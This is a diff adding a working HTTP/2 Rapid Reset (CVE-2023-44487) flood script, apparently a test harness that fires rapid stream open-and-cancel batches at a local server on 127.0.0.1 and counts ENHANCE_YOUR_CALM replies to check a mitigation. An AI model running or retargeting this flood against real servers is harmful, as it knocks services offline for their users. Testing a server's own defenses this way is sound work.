@@ -1,0 +1,80 @@
+/**
+ * Opens streams and resets them at once, so many a second, on connections that are opened again when they are cut off
+ * (CVE-2023-44487). Prints what came of it as JSON: streams sent, connections, and those that ended with ENHANCE_YOUR_CALM.
+ *
+ * Usage: node rapid-reset-attack.ts <port> <streams a second> <seconds>
+ */
+import { connect, type Socket } from 'node:net';
+import { FLAG, FRAME, H2_ERROR, PREFACE } from '../../runtime/protocols/http2/frame-codes.ts';
+
+const [port, rate, seconds] = process.argv.slice(2).map(Number) as [number, number, number];
+const AT_ONCE = 50;
+const BATCH = 100;
+
+let sent = 0;
+let connections = 0;
+let calmed = 0;
+const open = new Set<Attack>();
+
+/** One connection of the attacker. */
+class Attack {
+	readonly #socket: Socket;
+	#stream = 1;
+
+	constructor() {
+		connections++;
+		this.#socket = connect({ port, host: '127.0.0.1', noDelay: true });
+		this.#socket.write(Buffer.concat([Buffer.from(PREFACE), frame(FRAME.settings, 0, 0, [])]));
+		this.#socket.on('error', () => {});
+		this.#socket.on('data', (bytes: Buffer) => {
+			const at = bytes.indexOf(Buffer.from([0, 0, 8, FRAME.goAway, 0, 0, 0, 0, 0]));
+			if (at >= 0 && bytes[at + 16] === H2_ERROR.enhanceYourCalm) calmed++;
+		});
+		this.#socket.on('close', () => open.delete(this));
+		this.#socket.on('end', () => this.#socket.destroy());
+		open.add(this);
+	}
+
+	/** Sends a batch, unless the last one is still on its way. */
+	send(): void {
+		if (this.#socket.writableLength > 100_000) return;
+		const frames: Buffer[] = [];
+		for (let i = 0; i < BATCH; i++, this.#stream += 2) {
+			// GET, http, /, and `a` as authority.
+			const block = [0x82, 0x86, 0x84, 0x41, 0x01, 0x61];
+			frames.push(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, this.#stream, block));
+			frames.push(frame(FRAME.resetStream, 0, this.#stream, [0, 0, 0, H2_ERROR.cancel]));
+		}
+		this.#socket.write(Buffer.concat(frames));
+		sent += BATCH;
+	}
+
+	end(): void {
+		this.#socket.destroy();
+	}
+}
+
+function frame(type: number, flags: number, stream: number, payload: readonly number[]): Buffer {
+	const head = [0, 0, payload.length, type, flags, stream >>> 24, stream >>> 16, stream >>> 8, stream];
+	return Buffer.from([...head, ...payload].map(byte => byte & 255));
+}
+
+const begun = performance.now();
+const timer = setInterval(() => {
+	const elapsed = (performance.now() - begun) / 1000;
+	if (elapsed >= seconds) {
+		clearInterval(timer);
+		for (const attack of open) attack.end();
+		console.log(JSON.stringify({ sent, connections, calmed }));
+		return;
+	}
+	while (open.size < AT_ONCE) new Attack();
+	for (let due = elapsed * rate - sent, blocked = 0; due > 0 && blocked < 3; blocked++) {
+		for (const attack of open) {
+			if (due <= 0) break;
+			const before = sent;
+			attack.send();
+			due -= sent - before;
+		}
+	}
+}, 5);
